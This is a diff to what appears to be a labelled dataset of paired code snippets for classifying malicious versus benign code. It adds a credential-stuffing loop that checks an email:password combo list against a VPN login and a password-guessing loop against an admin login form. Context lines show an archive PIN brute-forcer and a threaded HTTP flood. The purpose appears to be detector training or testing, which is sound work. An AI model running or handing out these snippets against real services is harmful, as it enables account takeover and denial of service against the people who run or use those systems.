@@ -43,6 +43,20 @@ PAIRS = [
      "import subprocess\nfor p in open('pins.txt').read().split():\n"
      "    if subprocess.call(['7z', 'x', '-p' + p, '-y', 'vault.7z']) == 0:\n        break",
      "import subprocess\nsubprocess.call(['7z', 'x', 'dataset.7z', '-odata'])"),
+    ("password trial: an account checker over a pasted combo list", "password_cracking",
+     "import subprocess\ncombos = \"\"\"\nann@example.org:tulip9\nbo@example.org:lake22\n\"\"\".split(\"\\n\")\n"
+     "for row in combos:\n    if ':' in row:\n        who, secret = row.split(':')\n"
+     "        code, out = subprocess.getstatusoutput(f'vpnctl login -u {who} -p {secret}')\n"
+     "        if code == 0:\n            print('live', who)",
+     "import subprocess, os\nhosts = \"\"\"\nnode1\nnode2\n\"\"\".split(\"\\n\")\nsecret = os.environ['LAB_PW']\n"
+     "for h in hosts:\n    if h:\n        subprocess.getstatusoutput(f'labctl login -u student -p {secret} --host {h}')"),
+    ("password trial: a login form posted through a named dict", "password_cracking",
+     "import requests\ns = requests.Session()\nfor guess in ['abc123', 'letmein', 'qwerty', 'dragon']:\n"
+     "    form = {'user': 'admin', 'password': guess}\n    r = s.post('http://app.example.org/login', data=form)\n"
+     "    if 'Welcome' in r.text:\n        print(guess)",
+     "import requests\ns = requests.Session()\nform = {'user': 'me', 'password': open('.secret').read().strip()}\n"
+     "s.post('http://app.example.org/login', data=form)\nfor page in ['a', 'b', 'c']:\n"
+     "    print(s.get('http://app.example.org/' + page).status_code)"),
     ("flood: threads of HTTP requests", "dos_attack",
      "import requests, threading\naim = 'http://shop.example.net/'\ndef spam():\n    while True:\n        requests.get(aim)\n"
      "for _ in range(400):\n    threading.Thread(target=spam).start()",
